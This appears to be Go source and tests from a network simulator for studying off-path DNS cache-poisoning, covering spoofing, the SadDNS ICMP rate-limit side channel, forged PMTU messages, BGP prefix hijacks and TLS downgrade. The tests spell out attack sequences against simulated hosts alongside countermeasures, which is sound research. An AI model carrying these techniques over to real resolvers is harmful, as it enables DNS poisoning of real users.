// SetWirePool replaces the network's private payload-buffer pool with
// a caller-owned one, letting an engine worker share one scratch arena
// across the many short-lived networks of consecutive trials. The
// pool is not synchronised: it must only be used by the goroutine
// running this simulation. Pooling changes where payload bytes live,
// never what they say, so simulation output is unaffected.
func (n *Network) SetWirePool(p *pool.Wire) { n.wirep = p }

// WirePool returns the payload-buffer pool currently in use.
func (n *Network) WirePool() *pool.Wire { return n.wirep }

// SetLatency sets the one-way delivery latency (default 10ms).
func (n *Network) SetLatency(d time.Duration) { n.latency = d }

// SetLossRate enables random packet loss at the given probability —
// the failure-injection knob used to check that retransmission logic
// (resolver retries, attack iterations) survives an imperfect network.
func (n *Network) SetLossRate(p float64) {
	n.lossRate = p
	if n.lossRng == nil {
		n.lossRng = n.Clock.NewRand()
	}
}

// Latency returns the one-way delivery latency.
func (n *Network) Latency() time.Duration { return n.latency }

// latencyBetween returns the one-way latency between two ASes: the sum
// of both endpoints' access-link contributions, each defaulting to half
// the base latency. With no AccessLatency overrides anywhere this is
// exactly the base latency, so existing scenarios are unchanged.
func (n *Network) latencyBetween(a, b bgp.ASN) time.Duration {
	half := n.latency / 2
	la, lb := half, n.latency-half
	if info := n.asInfo[a]; info != nil && info.AccessLatency > 0 {
		la = info.AccessLatency
	}
	if info := n.asInfo[b]; info != nil && info.AccessLatency > 0 {
		lb = info.AccessLatency
	}
	return la + lb
}

// AS returns (creating if needed) the simulator state for an AS.
func (n *Network) AS(asn bgp.ASN) *ASInfo {
	info := n.asInfo[asn]
	if info == nil {
		info = &ASInfo{ASN: asn, EgressFiltering: true}
		n.asInfo[asn] = info
	}
	return info
}

// HostByAddr returns the host owning addr, or nil.
func (n *Network) HostByAddr(addr netip.Addr) *Host { return n.hosts[addr] }

// HostsInAS lists the hosts attached to an AS.
func (n *Network) HostsInAS(asn bgp.ASN) []*Host { return n.asHosts[asn] }

// AddHost creates a host in asn owning addr. Host names are purely
// cosmetic (tracing).
func (n *Network) AddHost(name string, asn bgp.ASN, addr netip.Addr) *Host {
	if _, dup := n.hosts[addr]; dup {
		panic(fmt.Sprintf("netsim: duplicate host address %v", addr))
	}
	h := newHost(n, name, asn, addr)
	n.hosts[addr] = h
	n.hostOrder = append(n.hostOrder, h)
	n.asHosts[asn] = append(n.asHosts[asn], h)
	n.AS(asn) // ensure ASInfo exists
	return h
}

// Snapshot records the post-build state Reset will restore: each
// host's config and bound-port tables as they stand now. Call it once,
// after the scenario is fully assembled and before any traffic runs.
func (n *Network) Snapshot() {
	for _, h := range n.hostOrder {
		h.snapshot()
	}
	if n.asSnaps == nil {
		n.asSnaps = make(map[bgp.ASN]asSnap, len(n.asInfo))
	}
	for asn, info := range n.asInfo {
		n.asSnaps[asn] = asSnap{egress: info.EgressFiltering, access: info.AccessLatency}
	}
}

// asSnap is the restorable per-AS configuration Snapshot captures.
type asSnap struct {
	egress bool
	access time.Duration
}

// Reset rewinds the network to the snapshotted post-build state so the
// same assembled world can run another trial: the clock is reset (and
// reseeded with seed), every host's ephemeral state — sessions,
// defragmentation cache, learned path MTUs, IPID and ICMP bookkeeping,
// counters — is cleared, per-host random streams are re-derived from
// the fresh clock in creation order (exactly the order a fresh build
// draws them), host configs and port bindings are restored from the
// snapshot, per-AS configuration (egress filtering, access latency)
// returns to its snapshotted values, interception and trace hooks are
// dropped, and the secure-session blocks an attacker installed are
// lifted. Hosts, the
// topology, the warmed wire/delivery pools and their capacity all
// survive. Snapshot must have been called first.
func (n *Network) Reset(seed int64) {
	n.Clock.Reset(seed)
	for _, h := range n.hostOrder {
		h.reset()
	}
	for asn, info := range n.asInfo {
		if s, ok := n.asSnaps[asn]; ok {
			info.EgressFiltering = s.egress
			info.AccessLatency = s.access
		}
		info.Interceptor = nil
		info.TCPInterceptor = nil
	}
	n.secureBlocked = nil
	n.lossRate = 0
	n.lossRng = nil
	n.Trace = nil
	n.Delivered = 0
	n.Dropped = 0
}

// delivery is one in-flight packet: a pre-allocated clock Action so
// scheduling a delivery allocates neither a closure nor (at steady
// state, thanks to the freelist) the node itself. ip.Payload is always
// backed by the network's wire pool; whether it may be recycled after
// delivery is decided per-path in Fire.
type delivery struct {
	n      *Network
	origin bgp.ASN
	ip     packet.IPv4
}

func (n *Network) allocDelivery() *delivery {
	if l := n.delivp.free; len(l) > 0 {
		d := l[len(l)-1]
		l[len(l)-1] = nil
		n.delivp.free = l[:len(l)-1]
		d.n = n // the pool may be shared across networks
		return d
	}
	return &delivery{n: n}
}

func (n *Network) recycleDelivery(d *delivery) {
	d.ip = packet.IPv4{}
	n.delivp.free = append(n.delivp.free, d)
}

// Send routes one IPv4 packet from the given host. The packet is
// delivered after the network latency, or dropped (egress filtering,
// no route, no receiving host and no interceptor). The payload is
// copied before Send returns, so the caller may immediately reuse it
// (the SadDNS flood patches TXIDs into one buffer between sends).
func (n *Network) Send(from *Host, ip *packet.IPv4) {
	n.send(from, ip, false)
}

// send is Send with an ownership flag: owned means ip.Payload was
// taken from n.wirep by the caller and responsibility for returning it
// passes to the network (recycled on drop, handed to the delivery
// otherwise). Unowned payloads are copied into a pooled buffer, which
// is what preserves Send's caller-may-reuse contract.
func (n *Network) send(from *Host, ip *packet.IPv4, owned bool) {
	// Egress filtering: a spoofed source only escapes ASes that do not
	// filter.
	if ip.Src != from.Addr && n.AS(from.ASN).EgressFiltering {
		n.Dropped++
		if owned {
			n.wirep.Put(ip.Payload)
		}
		return
	}
	from.Sent++
	if n.lossRate > 0 && n.lossRng.Float64() < n.lossRate {
		n.Dropped++
		if owned {
			n.wirep.Put(ip.Payload)
		}
		return
	}
	origin, ok := n.RIB.Resolve(from.ASN, ip.Dst)
	if !ok {
		n.Dropped++
		if owned {
			n.wirep.Put(ip.Payload)
		}
		return
	}
	d := n.allocDelivery()
	d.origin = origin
	d.ip = *ip
	if !owned {
		d.ip.Payload = append(n.wirep.Get(len(ip.Payload)), ip.Payload...)
	}
	n.Clock.AfterAction(n.latencyBetween(from.ASN, origin), d)
}

// Fire delivers the packet. Recycling rules: the payload buffer and
// the delivery node go back to their freelists only on paths where no
// reference can outlive the call — a plain (non-fragment) UDP or ICMP
// delivery to a host without a raw-capture hook, or a routing drop
// nobody observed. Fragments are retained by the defrag cache,
// OnRaw/Interceptor hooks may keep the *IPv4, and ICMP handlers may
// keep the decoded message (which aliases the payload), so those
// paths leak to the GC — recycling is an optimisation, never an
// obligation.
func (d *delivery) Fire() {
	n := d.n
	ip := &d.ip
	dst := n.hosts[ip.Dst]
	if dst != nil && dst.ASN == d.origin {
		n.Delivered++
		if n.Trace != nil {
			n.Trace(TraceEvent{At: n.Clock.Now(), From: ip.Src, To: ip.Dst, Proto: ip.Protocol, Size: len(ip.Payload)})
		}
		safe := dst.onRaw == nil && !ip.IsFragment()
		recyclePayload := safe && ip.Protocol == packet.ProtoUDP
		dst.receive(ip)
		if recyclePayload {
			n.wirep.Put(ip.Payload)
		}
		if safe {
			n.recycleDelivery(d)
		}
		return
	}
	// Routed into an AS that does not host the address: a hijacker's
	// interceptor may claim it.
	if info := n.asInfo[d.origin]; info != nil && info.Interceptor != nil {
		n.Delivered++
		if n.Trace != nil {
			n.Trace(TraceEvent{At: n.Clock.Now(), From: ip.Src, To: ip.Dst, Proto: ip.Protocol, Size: len(ip.Payload), Intercept: true})
		}
		info.Interceptor(ip)
		return
	}
	n.Dropped++
	n.wirep.Put(ip.Payload)
	n.recycleDelivery(d)
}

// Run processes all pending events.
func (n *Network) Run() { n.Clock.Run() }

// RunFor processes events for a span of virtual time.
func (n *Network) RunFor(d time.Duration) { n.Clock.RunFor(d) }
