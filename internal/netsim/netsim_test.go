package netsim

import (
	"net/netip"
	"testing"
	"time"

	"crosslayer/internal/bgp"
	"crosslayer/internal/packet"
	"crosslayer/internal/sim"
)

// testNet builds a 3-AS line: victimAS(5) -- transit(1) -- attackerAS(6),
// with the victim host 30.0.0.1/22, nameserver 123.0.0.53/22 in AS 4,
// attacker 6.6.6.6/22 in AS 6 (no egress filtering).
type testNet struct {
	net             *Network
	clock           *sim.Clock
	victim, ns, atk *Host
	victimAS, nsAS  bgp.ASN
	atkAS           bgp.ASN
}

func build(t *testing.T) *testNet {
	t.Helper()
	clock := sim.NewClock(1)
	topo := bgp.NewTopology()
	topo.AddAS(1, 1) // transit
	topo.AddAS(5, 3) // victim
	topo.AddAS(4, 3) // nameserver
	topo.AddAS(6, 3) // attacker
	topo.AddProviderCustomer(1, 5)
	topo.AddProviderCustomer(1, 4)
	topo.AddProviderCustomer(1, 6)
	rib := bgp.NewRIB(topo, nil)
	n := New(clock, topo, rib)
	rib.Announce(netip.MustParsePrefix("30.0.0.0/22"), 5)
	rib.Announce(netip.MustParsePrefix("123.0.0.0/22"), 4)
	rib.Announce(netip.MustParsePrefix("6.6.6.0/22"), 6)
	tn := &testNet{
		net: n, clock: clock,
		victim:   n.AddHost("resolver", 5, netip.MustParseAddr("30.0.0.1")),
		ns:       n.AddHost("ns", 4, netip.MustParseAddr("123.0.0.53")),
		atk:      n.AddHost("attacker", 6, netip.MustParseAddr("6.6.6.6")),
		victimAS: 5, nsAS: 4, atkAS: 6,
	}
	n.AS(6).EgressFiltering = false // attacker can spoof
	return tn
}

func TestUDPDelivery(t *testing.T) {
	tn := build(t)
	var got []Datagram
	tn.ns.BindUDP(53, func(dg Datagram) {
		// Payload is only valid during the handler: copy before keeping.
		dg.Payload = append([]byte(nil), dg.Payload...)
		got = append(got, dg)
	})
	tn.victim.SendUDP(40000, tn.ns.Addr, 53, []byte("query"))
	tn.net.Run()
	if len(got) != 1 {
		t.Fatalf("delivered %d datagrams, want 1", len(got))
	}
	dg := got[0]
	if dg.Src != tn.victim.Addr || dg.SrcPort != 40000 || dg.DstPort != 53 || string(dg.Payload) != "query" {
		t.Fatalf("bad datagram: %+v", dg)
	}
}

func TestLatencyAppliesToDelivery(t *testing.T) {
	tn := build(t)
	tn.net.SetLatency(25 * time.Millisecond)
	var at time.Duration
	tn.ns.BindUDP(53, func(Datagram) { at = tn.clock.Now() })
	tn.victim.SendUDP(40000, tn.ns.Addr, 53, []byte("q"))
	tn.net.Run()
	if at != 25*time.Millisecond {
		t.Fatalf("delivered at %v, want 25ms", at)
	}
}

func TestAccessLatencyOverridesPerAS(t *testing.T) {
	tn := build(t)
	// Default: both endpoints contribute half the base latency (10ms).
	var at time.Duration
	tn.ns.BindUDP(53, func(Datagram) { at = tn.clock.Now() })
	tn.victim.SendUDP(40000, tn.ns.Addr, 53, []byte("q"))
	tn.net.Run()
	if at != 10*time.Millisecond {
		t.Fatalf("default delivery at %v, want 10ms", at)
	}

	// A carrier-grade AS overrides its access contribution: the sender's
	// 2ms replaces its default 5ms half, the receiver keeps the default.
	tn.net.AS(tn.atkAS).AccessLatency = 2 * time.Millisecond
	start := tn.clock.Now()
	tn.atk.SendUDP(40001, tn.ns.Addr, 53, []byte("q"))
	tn.net.Run()
	if got := at - start; got != 7*time.Millisecond {
		t.Fatalf("carrier delivery took %v, want 7ms", got)
	}

	// Both endpoints overridden: contributions add.
	tn.net.AS(tn.nsAS).AccessLatency = 1 * time.Millisecond
	start = tn.clock.Now()
	tn.atk.SendUDP(40002, tn.ns.Addr, 53, []byte("q"))
	tn.net.Run()
	if got := at - start; got != 3*time.Millisecond {
		t.Fatalf("carrier-to-carrier delivery took %v, want 3ms", got)
	}
}

func TestEgressFilteringBlocksSpoofing(t *testing.T) {
	tn := build(t)
	hits := 0
	tn.ns.BindUDP(53, func(Datagram) { hits++ })
	// Victim AS filters: spoofed packet from victim host dropped.
	tn.victim.SendUDPSpoofed(netip.MustParseAddr("9.9.9.9"), 1, tn.ns.Addr, 53, []byte("x"))
	// Attacker AS does not filter: spoofed packet delivered.
	tn.atk.SendUDPSpoofed(netip.MustParseAddr("9.9.9.9"), 1, tn.ns.Addr, 53, []byte("y"))
	tn.net.Run()
	if hits != 1 {
		t.Fatalf("hits=%d, want 1 (only the attacker spoof delivers)", hits)
	}
	if tn.net.Dropped == 0 {
		t.Fatal("filtered packet not counted as dropped")
	}
}

func TestEchoReply(t *testing.T) {
	tn := build(t)
	var replies int
	tn.atk.OnICMP(func(src netip.Addr, msg *packet.ICMP) {
		if msg.Type == packet.ICMPTypeEchoReply && src == tn.victim.Addr && msg.ID == 7 {
			replies++
		}
	})
	tn.atk.Ping(tn.victim.Addr, 7, 1)
	tn.net.Run()
	if replies != 1 {
		t.Fatalf("replies=%d, want 1", replies)
	}
}

func TestPortUnreachableForClosedPort(t *testing.T) {
	tn := build(t)
	var errs int
	tn.atk.OnICMP(func(src netip.Addr, msg *packet.ICMP) {
		if msg.IsPortUnreachable() {
			errs++
		}
	})
	tn.atk.SendUDP(1234, tn.victim.Addr, 9999, []byte("probe"))
	tn.net.Run()
	if errs != 1 {
		t.Fatalf("errs=%d, want 1", errs)
	}
}

func TestGlobalICMPRateLimitSideChannel(t *testing.T) {
	tn := build(t)
	tn.victim.Cfg.ICMPRate = 50 // one-second windows for this test
	spoofSrc := tn.ns.Addr
	// 50 spoofed probes to closed ports exhaust the global bucket.
	for p := uint16(1000); p < 1050; p++ {
		tn.atk.SendUDPSpoofed(spoofSrc, 53, tn.victim.Addr, p, []byte("probe"))
	}
	tn.net.RunFor(50 * time.Millisecond)
	if tn.victim.ICMPSent != 50 {
		t.Fatalf("ICMPSent=%d, want 50", tn.victim.ICMPSent)
	}
	// Verification probe from the attacker's own address: suppressed.
	var verif int
	tn.atk.OnICMP(func(_ netip.Addr, msg *packet.ICMP) {
		if msg.IsPortUnreachable() {
			verif++
		}
	})
	tn.atk.SendUDP(1, tn.victim.Addr, 9999, []byte("verify"))
	tn.net.RunFor(50 * time.Millisecond)
	if verif != 0 {
		t.Fatalf("verification probe answered despite exhausted bucket (verif=%d)", verif)
	}
	if tn.victim.ICMPSuppressed == 0 {
		t.Fatal("suppression not counted")
	}
	// After a second of refill the bucket answers again.
	tn.clock.RunUntil(tn.clock.Now() + 1200*time.Millisecond)
	tn.atk.SendUDP(1, tn.victim.Addr, 9999, []byte("verify2"))
	tn.net.Run()
	if verif != 1 {
		t.Fatalf("bucket did not refill (verif=%d)", verif)
	}
}

func TestOpenPortLeavesTokenVisible(t *testing.T) {
	// The core SadDNS inference: if one of the 50 probed ports is open,
	// only 49 tokens are consumed and the verification probe IS answered.
	tn := build(t)
	tn.victim.Cfg.ICMPRate = 50 // one-second windows for this test
	tn.victim.BindUDP(1025, func(Datagram) {})
	for p := uint16(1000); p < 1050; p++ {
		tn.atk.SendUDPSpoofed(tn.ns.Addr, 53, tn.victim.Addr, p, []byte("probe"))
	}
	tn.net.RunFor(50 * time.Millisecond)
	var verif int
	tn.atk.OnICMP(func(_ netip.Addr, msg *packet.ICMP) {
		if msg.IsPortUnreachable() {
			verif++
		}
	})
	tn.atk.SendUDP(1, tn.victim.Addr, 60000, []byte("verify"))
	tn.net.Run()
	if verif != 1 {
		t.Fatal("verification probe suppressed although an open port saved a token")
	}
}

func TestPerIPLimitClosesSideChannel(t *testing.T) {
	tn := build(t)
	tn.victim.Cfg.ICMPRate = 50 // one-second windows for this test
	tn.victim.Cfg.ICMPLimitMode = ICMPLimitPerIP
	for p := uint16(1000); p < 1050; p++ {
		tn.atk.SendUDPSpoofed(tn.ns.Addr, 53, tn.victim.Addr, p, []byte("probe"))
	}
	tn.net.RunFor(50 * time.Millisecond)
	var verif int
	tn.atk.OnICMP(func(_ netip.Addr, msg *packet.ICMP) {
		if msg.IsPortUnreachable() {
			verif++
		}
	})
	tn.atk.SendUDP(1, tn.victim.Addr, 60000, []byte("verify"))
	tn.net.Run()
	if verif != 1 {
		t.Fatal("per-IP limiting should answer the attacker's own probe regardless of spoofed flood")
	}
}

func TestPMTULearningAndFragmentation(t *testing.T) {
	tn := build(t)
	// NS sends a large datagram: delivered unfragmented at MTU 1500.
	var sizes []int
	tn.victim.BindUDP(5353, func(dg Datagram) { sizes = append(sizes, len(dg.Payload)) })
	big := make([]byte, 1200)
	tn.ns.SendUDP(53, tn.victim.Addr, 5353, big)
	tn.net.Run()
	if len(sizes) != 1 || sizes[0] != 1200 {
		t.Fatalf("pre-PTB delivery: %v", sizes)
	}
	// Attacker spoofs a PTB quoting an NS->victim datagram, MTU 600.
	quotedIP := &packet.IPv4{ID: 1, TTL: 64, Protocol: packet.ProtoUDP, Src: tn.ns.Addr, Dst: tn.victim.Addr, Payload: make([]byte, 16)}
	quote, _ := packet.QuoteDatagram(quotedIP)
	tn.atk.SendICMPSpoofed(tn.victim.Addr, tn.ns.Addr, &packet.ICMP{
		Type: packet.ICMPTypeDestUnreach, Code: packet.ICMPCodeFragNeeded, MTU: 600, Payload: quote,
	})
	tn.net.Run()
	if got := tn.ns.PMTUTo(tn.victim.Addr); got != 600 {
		t.Fatalf("PMTU after PTB = %d, want 600", got)
	}
	// Next large datagram arrives fragmented and reassembled.
	fragsBefore := tn.victim.FragCache().Stats().Reassembled
	tn.ns.SendUDP(53, tn.victim.Addr, 5353, big)
	tn.net.Run()
	if len(sizes) != 2 || sizes[1] != 1200 {
		t.Fatalf("post-PTB delivery: %v", sizes)
	}
	if tn.victim.FragCache().Stats().Reassembled != fragsBefore+1 {
		t.Fatal("delivery was not via reassembly")
	}
}

func TestPMTUFloorClampsTinyPTB(t *testing.T) {
	tn := build(t)
	quotedIP := &packet.IPv4{ID: 1, TTL: 64, Protocol: packet.ProtoUDP, Src: tn.ns.Addr, Dst: tn.victim.Addr, Payload: make([]byte, 16)}
	quote, _ := packet.QuoteDatagram(quotedIP)
	tn.atk.SendICMPSpoofed(tn.victim.Addr, tn.ns.Addr, &packet.ICMP{
		Type: packet.ICMPTypeDestUnreach, Code: packet.ICMPCodeFragNeeded, MTU: 68, Payload: quote,
	})
	tn.net.Run()
	if got := tn.ns.PMTUTo(tn.victim.Addr); got != 552 {
		t.Fatalf("PMTU = %d, want floor 552", got)
	}
	// A host with a permissive floor accepts 296.
	tn.ns.Cfg.PMTUFloor = 296
	tn.atk.SendICMPSpoofed(tn.victim.Addr, tn.ns.Addr, &packet.ICMP{
		Type: packet.ICMPTypeDestUnreach, Code: packet.ICMPCodeFragNeeded, MTU: 68, Payload: quote,
	})
	tn.net.Run()
	if got := tn.ns.PMTUTo(tn.victim.Addr); got != 296 {
		t.Fatalf("PMTU = %d, want 296", got)
	}
}

func TestPTBIgnoredWhenPMTUDDisabled(t *testing.T) {
	tn := build(t)
	tn.ns.Cfg.HonorPMTUD = false
	quotedIP := &packet.IPv4{ID: 1, TTL: 64, Protocol: packet.ProtoUDP, Src: tn.ns.Addr, Dst: tn.victim.Addr, Payload: make([]byte, 16)}
	quote, _ := packet.QuoteDatagram(quotedIP)
	tn.atk.SendICMPSpoofed(tn.victim.Addr, tn.ns.Addr, &packet.ICMP{
		Type: packet.ICMPTypeDestUnreach, Code: packet.ICMPCodeFragNeeded, MTU: 600, Payload: quote,
	})
	tn.net.Run()
	if got := tn.ns.PMTUTo(tn.victim.Addr); got != 1500 {
		t.Fatalf("PMTU = %d, want untouched 1500", got)
	}
}

func TestIPIDModes(t *testing.T) {
	tn := build(t)
	dst := tn.victim.Addr
	other := tn.atk.Addr
	tn.ns.Cfg.IPIDMode = IPIDGlobalCounter
	a, b := tn.ns.NextIPID(dst), tn.ns.NextIPID(other)
	if b != a+1 {
		t.Fatalf("global counter not sequential across destinations: %d %d", a, b)
	}
	tn.ns.Cfg.IPIDMode = IPIDPerDestCounter
	c1, d1 := tn.ns.NextIPID(dst), tn.ns.NextIPID(other)
	c2, d2 := tn.ns.NextIPID(dst), tn.ns.NextIPID(other)
	if c2 != c1+1 || d2 != d1+1 {
		t.Fatal("per-dest counters not independent")
	}
	tn.ns.Cfg.IPIDMode = IPIDRandom
	seen := map[uint16]bool{}
	for i := 0; i < 64; i++ {
		seen[tn.ns.NextIPID(dst)] = true
	}
	if len(seen) < 48 {
		t.Fatalf("random IPID produced only %d distinct values in 64 draws", len(seen))
	}
}

func TestHijackInterception(t *testing.T) {
	tn := build(t)
	var intercepted []*packet.IPv4
	tn.net.AS(tn.atkAS).Interceptor = func(ip *packet.IPv4) { intercepted = append(intercepted, ip) }
	// Attacker announces a /24 inside the nameserver's /22.
	tn.net.RIB.Announce(netip.MustParsePrefix("123.0.0.0/24"), tn.atkAS)
	tn.victim.SendUDP(40000, tn.ns.Addr, 53, []byte("query"))
	tn.net.Run()
	if len(intercepted) != 1 {
		t.Fatalf("intercepted %d packets, want 1", len(intercepted))
	}
	if tn.ns.Received != 0 {
		t.Fatal("nameserver still received the hijacked packet")
	}
	// Withdraw: traffic returns to the nameserver.
	tn.net.RIB.Withdraw(netip.MustParsePrefix("123.0.0.0/24"), tn.atkAS)
	tn.victim.SendUDP(40000, tn.ns.Addr, 53, []byte("query2"))
	tn.net.Run()
	if tn.ns.Received != 1 {
		t.Fatal("traffic did not return after withdraw")
	}
}

func TestFragmentsDroppedWhenNotAccepted(t *testing.T) {
	tn := build(t)
	tn.victim.Cfg.AcceptFragments = false
	var got int
	tn.victim.BindUDP(5353, func(Datagram) { got++ })
	// Force the NS to fragment.
	quotedIP := &packet.IPv4{ID: 1, TTL: 64, Protocol: packet.ProtoUDP, Src: tn.ns.Addr, Dst: tn.victim.Addr, Payload: make([]byte, 16)}
	quote, _ := packet.QuoteDatagram(quotedIP)
	tn.atk.SendICMPSpoofed(tn.victim.Addr, tn.ns.Addr, &packet.ICMP{
		Type: packet.ICMPTypeDestUnreach, Code: packet.ICMPCodeFragNeeded, MTU: 600, Payload: quote,
	})
	tn.net.Run()
	tn.ns.SendUDP(53, tn.victim.Addr, 5353, make([]byte, 1200))
	tn.net.Run()
	if got != 0 {
		t.Fatal("fragmented datagram delivered to a frag-dropping host")
	}
	// Small datagrams still arrive.
	tn.ns.SendUDP(53, tn.victim.Addr, 5353, []byte("small"))
	tn.net.Run()
	if got != 1 {
		t.Fatal("small datagram lost")
	}
}

func TestBadUDPChecksumDropped(t *testing.T) {
	tn := build(t)
	var got int
	tn.victim.BindUDP(5353, func(Datagram) { got++ })
	u := &packet.UDP{SrcPort: 1, DstPort: 5353, Checksum: 0xdead, ForceChecksum: true, Payload: []byte("corrupt")}
	wire, _ := u.Serialize(nil, tn.atk.Addr, tn.victim.Addr)
	tn.atk.SendRawIP(&packet.IPv4{ID: 1, TTL: 64, Protocol: packet.ProtoUDP, Src: tn.atk.Addr, Dst: tn.victim.Addr, Payload: wire})
	tn.net.Run()
	if got != 0 {
		t.Fatal("datagram with bad checksum delivered")
	}
}

func TestEphemeralPortRange(t *testing.T) {
	tn := build(t)
	for i := 0; i < 1000; i++ {
		p := tn.victim.EphemeralPort()
		if p < tn.victim.Cfg.PortMin || p > tn.victim.Cfg.PortMax {
			t.Fatalf("ephemeral port %d outside range", p)
		}
	}
	tn.victim.Cfg.RandomizePorts = false
	if tn.victim.EphemeralPort() != tn.victim.Cfg.PortMin {
		t.Fatal("non-randomizing host should use fixed port")
	}
	tn.victim.Cfg.RandomizePorts = true
	// BindUDP(0) must avoid collisions.
	seen := map[uint16]bool{}
	for i := 0; i < 200; i++ {
		p := tn.victim.BindUDP(0, func(Datagram) {})
		if seen[p] {
			t.Fatal("BindUDP(0) returned a bound port")
		}
		seen[p] = true
	}
}

// TestDeliveryPoolTrim pins the delivery-node retention bound that the
// campaign arena applies between jobs.
func TestDeliveryPoolTrim(t *testing.T) {
	p := &DeliveryPool{}
	for i := 0; i < 50; i++ {
		p.free = append(p.free, &delivery{})
	}
	if p.Retained() != 50 {
		t.Fatalf("Retained %d, want 50", p.Retained())
	}
	p.Trim(8)
	if p.Retained() != 8 {
		t.Fatalf("post-Trim Retained %d, want 8", p.Retained())
	}
	p.Trim(0)
	if p.Retained() != 0 {
		t.Fatalf("Trim(0) retained %d nodes", p.Retained())
	}
}
