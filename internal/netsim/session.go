package netsim

import (
	"net/netip"
	"time"
)

// Sessions model connection-oriented DNS transports (TCP, TLS, HTTPS,
// QUIC) the way tcp.go models one-shot TCP calls: as reliable,
// non-spoofable request/response exchanges on the virtual clock, with
// no real crypto. What a session adds over CallTCP is connection
// STATE: the first call on a session pays its transport's handshake
// round trips, subsequent calls ride the established connection at
// plain one-round-trip cost (RFC 7766 connection reuse — the
// amortization the latency accounting measures). Because requests and
// responses travel inside the session, an off-path attacker sees no
// 16-bit port or TXID to race and no IP fragments to poison; the only
// levers left are the ones the Session exposes deliberately — refusing
// the handshake (BlockSecure, the downgrade attack's tool) and, for
// PLAINTEXT sessions only, on-path termination after a prefix hijack
// (ASInfo.TCPInterceptor). Encrypted sessions fail closed under
// hijack: certificate validation turns a diverted connection into a
// hard error, never a forged answer.

// SessionHandler serves one request arriving over an established
// session. respond may be invoked at most once — immediately or later
// (servers that resolve asynchronously answer when done); not invoking
// it models a server that stays silent (e.g. response-rate limiting),
// which the caller's own retransmission timeout must cover. req is
// only valid for the duration of the call; respond copies resp before
// returning, so the callee may reuse its buffer.
type SessionHandler func(src netip.Addr, req []byte, respond func(resp []byte))

// SessionConfig fixes a session's transport behaviour.
type SessionConfig struct {
	// HandshakeRTTs is how many extra round trips a fresh connection
	// pays before its first request (TCP 1; TCP+TLS1.3 2; QUIC 1).
	HandshakeRTTs int
	// Plaintext sessions (DNS over bare TCP) can be terminated by a
	// prefix hijacker with a TCPInterceptor; encrypted sessions fail
	// closed instead, and BlockSecure can refuse their handshakes.
	Plaintext bool
	// PadBlock, when non-zero, pads the accounted size of every request
	// and response up to a multiple of this many bytes (RFC 8467 EDNS
	// padding: encrypted transports hide message sizes in fixed blocks).
	PadBlock int
}

// Session is one cached client-side connection to dst:port. Obtain it
// with Host.Session; the host caches one per (dst, port), which is
// what makes reuse observable.
type Session struct {
	h   *Host
	dst netip.Addr
	cfg SessionConfig
	// Port is the server port the session connects to.
	Port        uint16
	established bool

	// Counters for the reuse/latency accounting.
	Handshakes int
	Calls      uint64
	BytesSent  uint64
	BytesRcvd  uint64
}

type sessionKey struct {
	dst  netip.Addr
	port uint16
}

// BindSession installs a request handler for a session service port
// (the server side of DoT/DoH/DoQ and always-TCP DNS).
func (h *Host) BindSession(port uint16, fn SessionHandler) {
	if h.sessionPorts == nil {
		h.sessionPorts = make(map[uint16]SessionHandler)
	}
	h.sessionPorts[port] = fn
}

// Session returns the host's cached session to dst:port, creating it
// (unestablished) on first use. cfg only takes effect at creation.
func (h *Host) Session(dst netip.Addr, port uint16, cfg SessionConfig) *Session {
	k := sessionKey{dst, port}
	if s := h.sessions[k]; s != nil {
		return s
	}
	if h.sessions == nil {
		h.sessions = make(map[sessionKey]*Session)
	}
	s := &Session{h: h, dst: dst, Port: port, cfg: cfg}
	h.sessions[k] = s
	return s
}

// BlockSecure makes every non-plaintext session handshake from client
// to server fail — the active downgrade attacker's lever: it cannot
// read or forge the encrypted channel, but it can break the handshake
// (RST injection, throwaway middlebox tricks) and hope the client
// falls back to plaintext. Established sessions are torn down by the
// next call's re-handshake attempt.
func (n *Network) BlockSecure(client, server netip.Addr) {
	if n.secureBlocked == nil {
		n.secureBlocked = make(map[[2]netip.Addr]bool)
	}
	n.secureBlocked[[2]netip.Addr{client, server}] = true
}

// UnblockSecure lifts a BlockSecure.
func (n *Network) UnblockSecure(client, server netip.Addr) {
	delete(n.secureBlocked, [2]netip.Addr{client, server})
}

func (n *Network) secureBlockedBetween(client, server netip.Addr) bool {
	return n.secureBlocked[[2]netip.Addr{client, server}]
}

// Established reports whether the next call rides an existing
// connection (no handshake cost).
func (s *Session) Established() bool { return s.established }

// paddedLen rounds n up to the session's padding block.
func (s *Session) paddedLen(n int) uint64 {
	if s.cfg.PadBlock <= 0 {
		return uint64(n)
	}
	b := s.cfg.PadBlock
	return uint64((n + b - 1) / b * b)
}

// Call sends req over the session and invokes cb exactly once per
// failure, or at most once with the server's response: cb(nil) means
// the connection failed (no route, refused handshake, no service,
// hijacked encrypted endpoint), while a server that accepts the
// request but never responds is SILENCE — the caller's retransmission
// timeout governs, exactly as on UDP. An unestablished session pays
// its handshake round trips before the request departs.
func (s *Session) Call(req []byte, cb func(resp []byte)) {
	h := s.h
	n := h.net
	origin, ok := n.RIB.Resolve(h.ASN, s.dst)
	if !ok {
		n.Clock.After(n.latency, func() { cb(nil) })
		return
	}
	if !s.cfg.Plaintext && n.secureBlockedBetween(h.Addr, s.dst) {
		// The attacker breaks the handshake; an established connection
		// does not survive either (its next exchange is disrupted too).
		s.established = false
		n.Clock.After(2*n.latency, func() { cb(nil) })
		return
	}
	var setup time.Duration
	if !s.established {
		s.established = true
		s.Handshakes++
		setup = time.Duration(s.cfg.HandshakeRTTs) * 2 * n.latency
	}
	s.Calls++
	s.BytesSent += s.paddedLen(len(req))
	reqCopy := append([]byte(nil), req...)
	n.Clock.After(setup+n.latency, func() {
		dstHost := n.hosts[s.dst]
		if dstHost == nil || dstHost.ASN != origin {
			// Routed into an AS that does not host the address. A
			// plaintext session can be terminated by the hijacker; an
			// encrypted one fails certificate validation — hard error.
			s.established = false
			if info := n.asInfo[origin]; s.cfg.Plaintext && info != nil && info.TCPInterceptor != nil {
				resp := info.TCPInterceptor(h.Addr, s.dst, s.Port, reqCopy)
				n.Clock.After(n.latency, func() { cb(resp) })
				return
			}
			n.Clock.After(n.latency, func() { cb(nil) })
			return
		}
		fn := dstHost.sessionPorts[s.Port]
		if fn == nil {
			s.established = false
			n.Clock.After(n.latency, func() { cb(nil) })
			return
		}
		responded := false
		fn(h.Addr, reqCopy, func(resp []byte) {
			if responded {
				return
			}
			responded = true
			s.BytesRcvd += s.paddedLen(len(resp))
			respCopy := append([]byte(nil), resp...)
			n.Clock.After(n.latency, func() { cb(respCopy) })
		})
	})
}
