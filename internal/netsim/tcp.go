package netsim

import "net/netip"

// TCPHandler serves one request/response exchange over the simulated
